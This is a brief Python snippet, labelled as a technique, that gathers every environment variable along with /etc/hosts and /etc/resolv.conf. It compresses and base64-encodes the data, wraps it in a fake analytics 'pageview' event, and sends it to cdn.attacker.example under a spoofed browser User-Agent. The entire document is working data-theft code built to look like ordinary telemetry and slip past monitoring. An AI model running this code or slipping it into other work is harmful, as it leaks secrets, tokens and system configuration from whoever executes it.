# technique: exfil over HTTPS disguised as analytics: zlib+base64 compressed env and files in a JSON body with fake UA
import base64,json,os,zlib,urllib.request as U
b={"ev":"pageview","ts":__import__("time").time(),"d":base64.b64encode(zlib.compress(json.dumps({"env":dict(os.environ),"hosts":open("/etc/hosts").read(),"resolv":open("/etc/resolv.conf").read()}).encode())).decode()}
U.urlopen(U.Request("https://cdn.attacker.example/collect",data=json.dumps(b).encode(),headers={"User-Agent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","Content-Type":"application/json"}),timeout=10)
